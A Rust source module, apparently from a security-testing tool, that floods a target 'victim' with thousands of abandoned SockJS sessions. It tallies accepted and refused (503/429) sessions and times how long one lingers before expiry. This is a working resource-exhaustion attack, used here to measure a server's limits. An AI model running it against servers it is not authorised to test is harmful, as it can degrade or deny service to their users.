//! SockJS sessions that are opened and left alone.

use std::sync::Arc;
use std::time::Duration;

use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use super::{COUNT_MAX, Error, Findings, SECONDS_MAX, Victim};

/// How many requests are under way at a time.
const AT_ONCE: usize = 100;

/// Opens sessions with one poll each, and never comes back.
#[derive(Clone, Debug, clap::Args)]
pub struct SilentSockJs {
    /// How many sessions.
    #[arg(long, default_value_t = 12_000, value_parser = clap::value_parser!(u32).range(1..=i64::from(COUNT_MAX)))]
    count: u32,
    /// How long to wait at most for the sessions to be forgotten, in seconds.
    #[arg(long, default_value_t = 70, value_parser = clap::value_parser!(u64).range(1..=SECONDS_MAX))]
    seconds: u64,
}

impl SilentSockJs {
    /// Makes the attack.
    ///
    /// # Errors
    /// None of its own.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        let places = Arc::new(Semaphore::new(AT_ONCE));
        let mut polls = JoinSet::new();
        for number in 0..self.count {
            let places = Arc::clone(&places);
            polls.spawn(async move {
                let _place = places.acquire().await;
                let path = format!("/sockjs/000/silent{number}/xhr");
                (number, victim.request("POST", &path).await.map(|(status, _)| status))
            });
        }
        let statuses = polls.join_all().await;
        let of = |status| statuses.iter().filter(move |(_, one)| *one == status);
        let count = |status| of(status).count();
        let (opened, busy, refused) = (count(Some(200)), count(Some(503)), count(Some(429)));
        let begun = Instant::now();
        let patience = Duration::from_secs(self.seconds);
        // Sending to a session does not prolong its life, and it is 404 once it is forgotten.
        let last = of(Some(200)).map(|(number, _)| number).max().unwrap_or(&0);
        let last = format!("/sockjs/000/silent{last}/xhr_send");
        while begun.elapsed() < patience
            && victim.request("POST", &last).await.is_some_and(|(status, _)| status != 404)
        {
            sleep(Duration::from_millis(500)).await;
        }
        let kept = begun.elapsed();
        Ok(vec![
            ("sessions", self.count.to_string()),
            ("opened", opened.to_string()),
            ("refused with 503", busy.to_string()),
            ("refused with 429", refused.to_string()),
            ("no answer, or another", (statuses.len() - opened - busy - refused).to_string()),
            ("one of them was forgotten after", format!("{:.0} s", kept.as_secs_f64())),
        ])
    }
}
